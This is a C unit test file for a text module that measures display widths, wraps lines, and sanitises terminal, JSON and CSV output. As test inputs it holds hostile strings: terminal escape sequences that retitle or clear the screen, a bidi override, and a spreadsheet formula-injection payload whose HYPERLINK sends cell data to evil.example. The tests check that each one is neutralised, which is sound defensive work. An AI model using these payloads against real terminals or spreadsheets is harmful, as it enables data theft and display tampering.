#include "../../core/out.h"
#include "../../core/text.h"
#include "test.h"

#include <locale.h>
#include <stdlib.h>
#include <wchar.h>

static void test_width(void)
{
	CHECK_INT(text_width("abc"), 3);
	CHECK_INT(text_width("£3.8 – •"), 8);
	CHECK_INT(text_width("日本"), 4);
	CHECK_INT(text_width("e\xcc\x81"), 1); /* e + combining acute */
	CHECK_INT(text_width("\xff" "a"), 2);   /* a bad byte counts one column */
	int used;
	CHECK_INT(text_fit("£££", 2, &used), 4);
	CHECK_INT(used, 2);
	CHECK_INT(text_fit("日本", 3, &used), 3);
	/* What staff type, as the terminal draws it: ✅ ❌ ⭐ ⏰ ⚡ are two columns; ❤️ (a
	 * narrow heart and VS16) one; a decomposed é one; a right-to-left name its letters. */
	CHECK_INT(text_width("✅❌⭐⏰⚡"), 10);
	CHECK_INT(text_width("\u2764\uFE0F"), 1);
	CHECK_INT(text_width("Jose\u0301 Ferna\u0301ndez"), 14);
	CHECK_INT(text_width("שלום עליכם"), 10);
	CHECK_INT(text_width("李小龍"), 6);
	/* A wide character that does not fit is left out whole, its marks stay with it. */
	CHECK_INT(text_fit("a✅b", 2, &used), 1);
	CHECK_INT(used, 1);
	CHECK_INT(text_fit("ae\u0301\u0301b", 2, &used), 6);
}

/* Every code point, against the C library's wcwidth in a UTF-8 locale (what ncurses moves
 * by): in the C locale (the command line), then in C.UTF-8 (the dashboard's). */
static void test_width_wcwidth(void)
{
	char *saved = strdup(setlocale(LC_CTYPE, NULL));
	int want[2][3] = {{0}}; /* per pass: code points of width 0, 1, 2 */
	locale_t u = newlocale(LC_CTYPE_MASK, "C.UTF-8", (locale_t)0);
	CHECK(u);
	for (int pass = 0; pass < 2; pass++) {
		setlocale(LC_CTYPE, pass ? "C.UTF-8" : "C");
		int bad = 0;
		for (uint32_t c = 1; c <= 0x10FFFF; c++) {
			if (c >= 0xD800 && c <= 0xDFFF)
				continue;
			locale_t old = uselocale(u);
			int w = wcwidth((wchar_t)c);
			uselocale(old);
			int expect = !text_cp_shown(c) || w < 0 ? 1 : w;
			int got = text_cp_width(c);
			if (got != expect && bad++ < 5)
				printf("#   U+%04X: text_cp_width %d, wcwidth %d\n", c, got, w);
			if (got >= 0 && got <= 2)
				want[pass][got]++;
		}
		CHECK_INT(bad, 0);
	}
	/* Both passes measured the same, and the table is a real one (not all ones). */
	CHECK(!memcmp(want[0], want[1], sizeof want[0]));
	CHECK(want[1][0] > 2000 && want[1][2] > 100000);
	setlocale(LC_CTYPE, saved ? saved : "C");
	free(saved);
	freelocale(u);
}

static void test_wrap(void)
{
	const char *s = "The availability of illicit drugs was too high.";
	size_t next, end;
	end = text_wrap(s, 20, &next);
	CHECK_INT(end, 19); /* "The availability of" */
	CHECK_INT(next, 20);
	end = text_wrap(s + next, 20, &next);
	CHECK(!strncmp(s + 20, "illicit drugs was", end));
	CHECK_INT(end, 17);
	/* A word longer than the line is cut, never lost. */
	const char *w = "supercalifragilistic";
	end = text_wrap(w, 5, &next);
	CHECK_INT(end, 5);
	CHECK_INT(next, 5);
	end = text_wrap("   ", 5, &next);
	CHECK_INT(end, 0);
	CHECK_INT(next, 0);
	/* UTF-8 is never split. */
	end = text_wrap("££££££", 3, &next);
	CHECK_INT(end, 6);
}

static void test_safe(void)
{
	char *s;
	/* OSC title, OSC 52 clipboard and clear screen: every ESC and BEL becomes the mark. */
	s = text_safe_dup("a\x1b]0;pwned\x07" "b\x1b[2J", 0);
	CHECK_STR(s, "a" TEXT_MARK "]0;pwned" TEXT_MARK "b" TEXT_MARK "[2J");
	free(s);
	/* C1 as a character (U+009B CSI) and as a raw byte; DEL; bidi override U+202E. */
	s = text_safe_dup("x\xc2\x9by\x9bz\x7f\xe2\x80\xaeq", 0);
	CHECK_STR(s, "x" TEXT_MARK "y" TEXT_MARK "z" TEXT_MARK TEXT_MARK "q");
	free(s);
	/* Isolates U+2066..2069 and marks; overlong '/' and a surrogate are not UTF-8. */
	s = text_safe_dup("\xe2\x81\xa6\xe2\x81\xa9\xe2\x80\x8f\xc0\xaf\xed\xa0\x80", 0);
	CHECK_STR(s, TEXT_MARK TEXT_MARK TEXT_MARK TEXT_MARK TEXT_MARK TEXT_MARK TEXT_MARK TEXT_MARK);
	free(s);
	/* Real plan text passes unchanged; tab/CR/LF become spaces unless multi-line. */
	s = text_safe_dup("£3.8m – • café 日本", 0);
	CHECK_STR(s, "£3.8m – • café 日本");
	free(s);
	s = text_safe_dup("a\tb\r\nc", 0);
	CHECK_STR(s, "a b  c");
	free(s);
	s = text_safe_dup("a\nb", TEXT_MULTILINE);
	CHECK_STR(s, "a\nb");
	free(s);
	/* Validation and the clean check agree with the walk. */
	size_t bad = 99;
	CHECK(text_utf8_valid("£ok", 4, &bad));
	CHECK(!text_utf8_valid("ok\x9b", 3, &bad));
	CHECK_INT(bad, 2);
	CHECK(!text_utf8_valid("ab\xe2\x80", 4, &bad));
	CHECK_INT(bad, 2);
	/* A lead byte at the end of a buffer with no NUL after it is bad, and nothing past
	 * the buffer is read (ASan and valgrind run these). */
	char *cut = malloc(3);
	memcpy(cut, "ab\xe9", 3);
	CHECK(!text_utf8_valid(cut, 3, &bad));
	free(cut);
	CHECK_INT(bad, 2);
	CHECK(!text_utf8_valid("a\0b", 3, &bad));
	CHECK_INT(bad, 1);
	CHECK(text_clean("line one\nline two\t£"));
	CHECK(!text_clean("x\xe2\x80\xae"));
	CHECK(!text_clean("x\x1b[1m"));
	CHECK_INT(text_width("a\x1b" "b"), 3); /* the mark takes one column */
}

static void test_input(void)
{
	size_t at = 99;
	uint32_t cp = 0;
	CHECK(text_input_ok("Grilles fitted on G-wing\n\tnext: £3.8m – café 日本", &at, &cp));
	CHECK(!text_input_ok("ok\x1b]0;x", &at, &cp));
	CHECK_INT(at, 2);
	CHECK_INT(cp, 0x1b);
	CHECK(!text_input_ok("a\r\nb", &at, &cp)); /* CR is not a line break of ours */
	CHECK_INT(at, 1);
	CHECK_INT(cp, '\r');
	CHECK(!text_input_ok("ab\xc2\x9b", &at, &cp)); /* U+009B CSI */
	CHECK_INT(at, 2);
	CHECK_INT(cp, 0x9b);
	CHECK(!text_input_ok("abc\x9b", &at, &cp)); /* a raw C1 byte is not UTF-8 */
	CHECK_INT(at, 3);
	CHECK_INT(cp, TEXT_BAD);
	CHECK(!text_input_ok("x\xe2\x80\xae", &at, &cp));
	CHECK_INT(at, 1);
	CHECK_INT(cp, 0x202e);
	CHECK(!text_input_ok("\x7f", &at, &cp));
	CHECK_INT(cp, 0x7f);
	CHECK_INT(text_length("£3 日本"), 5);
	CHECK_INT(text_length("a\xff" "b"), 3);
	CHECK_INT(text_length(""), 0);
}

/* What out_* write for hostile text, read back from a memory stream. */
static char *out_capture(void (*fn)(FILE *, const char *), const char *s)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *fp = open_memstream(&buf, &len);
	fn(fp, s);
	fclose(fp);
	return buf;
}

static void out_csv_guarded(FILE *fp, const char *s)
{
	out_csv_field(fp, s, false);
}

static void out_csv_raw(FILE *fp, const char *s)
{
	out_csv_field(fp, s, true);
}

static void out_cell_10(FILE *fp, const char *s)
{
	out_cell(fp, s, 10);
}

static void test_out(void)
{
	char *s;
	/* JSON: C0 as JSON escapes, DEL/C1/bidi as \u escapes, bad bytes as U+FFFD. */
	s = out_capture(out_json_str, "a\x1b]0;x\x07\"\\\n\x7f\xc2\x9b\x9b\xe2\x80\xae£");
	CHECK_STR(s, "\"a\\u001b]0;x\\u0007\\\"\\\\\\n\\u007f\\u009b\\ufffd\\u202e£\"");
	free(s);
	/* CSV: made safe, quoted for a comma or a line break, which stays. */
	s = out_capture(out_csv_guarded, "a\x1b[2Jb");
	CHECK_STR(s, "a" TEXT_MARK "[2Jb");
	free(s);
	s = out_capture(out_csv_guarded, "x,\"y\"\nz\x9b");
	CHECK_STR(s, "\"x,\"\"y\"\"\nz" TEXT_MARK "\"");
	free(s);
	/* A field a spreadsheet would run as a formula: '-prefixed and quoted (OWASP); the
	 * same character later in the field, or --raw, changes nothing. */
	static const char *const formulas[][2] = {
		{"=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Details\")",
		 "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Details\"\")\""},
		{"+1+1", "\"'+1+1\""},
		{"-2+3", "\"'-2+3\""},
		{"@SUM(A1)", "\"'@SUM(A1)\""},
		{"\tx", "\"' x\""},
		{"\rx", "\"' x\""},
		{"a=b-c", "a=b-c"},
	};
	for (size_t i = 0; i < sizeof formulas / sizeof formulas[0]; i++) {
		s = out_capture(out_csv_guarded, formulas[i][0]);
		CHECK_STR(s, formulas[i][1]);
		free(s);
	}
	s = out_capture(out_csv_raw, "=1+1");
	CHECK_STR(s, "=1+1");
	free(s);
	/* Cells: the mark keeps one column, so the padding stays right. */
	s = out_capture(out_cell_10, "a\xe2\x80\xae" "b\tc");
	CHECK_STR(s, "a" TEXT_MARK "b c     ");
	free(s);
	s = out_capture(out_cell_10, "\x1b]0;pwned\x07 and more");
	CHECK_STR(s, TEXT_MARK "]0;pwned…");
	free(s);
	/* The command line's tables measure as the terminal draws: ✅ takes two columns. */
	s = out_capture(out_cell_10, "✅ done");
	CHECK_STR(s, "✅ done   ");
	free(s);
	s = out_capture(out_cell_10, "✅✅✅✅✅✅");
	CHECK_STR(s, "✅✅✅✅… ");
	free(s);
}

const test_case text_tests[] = {
	{"text: the rule for text users give", test_input},
	{"text: JSON, CSV and cells of hostile text", test_out},
	{"text: safe output of hostile text", test_safe},
	{"text: display widths", test_width},
	{"text: widths agree with wcwidth over every code point", test_width_wcwidth},
	{"text: wrapping", test_wrap},
	{NULL, NULL},
};
